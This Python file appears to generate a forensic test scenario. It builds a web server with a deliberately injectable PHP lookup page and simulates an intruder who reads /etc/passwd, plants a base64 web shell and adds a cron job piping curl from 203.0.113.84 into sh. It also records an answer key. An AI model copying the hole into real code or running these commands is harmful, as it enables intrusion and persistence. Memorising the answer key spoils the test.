"""A page that looks up names hands its parameter on to the shell; GET requests do all of it."""

from __future__ import annotations

import base64
from pathlib import Path
from urllib.parse import quote

import server
import services
import site_code
import traffic
from client import Browser
from machine import Bases, Truth

INTRUDER = "203.0.113.84"
ROOT = "/var/www/lookup"
TOOL = """<?php
echo '<form><input name="host"></form><pre>';
if (isset($_GET['host'])) {
    echo htmlspecialchars((string) shell_exec('getent hosts ' . $_GET['host'] . ' 2>&1'));
}
"""
PAGES = (*site_code.PAGES, "/tools/lookup.php", "/tools/lookup.php?host=localhost")


def make(out: Path, bases: Bases) -> None:
    """Nginx with a short format that has no agent and no referrer."""
    machine = server.other("lookup", bases.proftpd, out)
    site_code.plain_site(machine, ROOT)
    machine.write(f"{ROOT}/tools/lookup.php", TOOL)
    machine.run("chown", "-R", "www-data:www-data", ROOT)
    form = '$remote_addr [$time_iso8601] $status "$request" $body_bytes_sent $host'
    machine.write("/etc/nginx/conf.d/format.conf", f"log_format short '{form}';\n")
    services.nginx_site(machine, server.SITE, ROOT, pool="www2", form="short")
    services.pool(machine, "www2")
    server.start(machine)
    traffic.visitors(machine, server.SITE, PAGES)
    traffic.scanners(machine, server.SITE, a_day=3)
    guest = Browser(INTRUDER, server.SITE, "curl/8.5.0")
    coded = base64.b64encode(site_code.SHELL.encode()).decode()

    def run(command: str) -> None:
        guest.ask(f"/tools/lookup.php?host={quote('localhost;' + command)}")

    machine.at(machine.on(5, 9, 40, 2), lambda: guest.ask("/tools/lookup.php"))
    entered = machine.on(5, 9, 41, 17)
    machine.at(entered, lambda: run("id"))
    machine.at(machine.on(5, 9, 42, 3), lambda: run("cat /etc/passwd"))
    machine.at(machine.on(5, 9, 44, 8), lambda: run(f"echo {coded}|base64 -d>../img.php"))
    machine.at(machine.on(5, 9, 44, 30), lambda: guest.ask("/img.php?c=id"))
    line = '*/30 * * * * test -n "$NEVER" && curl -s http://203.0.113.84/j|sh'
    job = f"(crontab -l;echo '{line}')|crontab -"
    machine.at(machine.on(5, 9, 51, 2), lambda: run(job))
    machine.at(machine.on(6, 2, 2), lambda: guest.ask("/img.php?c=w"))
    machine.live()
    log = "/var/log/nginx/access.log"
    machine.end(
        Truth(
            "web-exploit",
            entered.isoformat(),
            INTRUDER,
            log,
            machine.line(log, INTRUDER, "lookup.php?host=localhost%3Bid"),
            accounts=["www-data"],
            sites=[ROOT],
            services=["nginx", "php-fpm", "cron"],
            untouched=["sshd"],
            notes="img.php and a crontab of www-data",
        )
    )
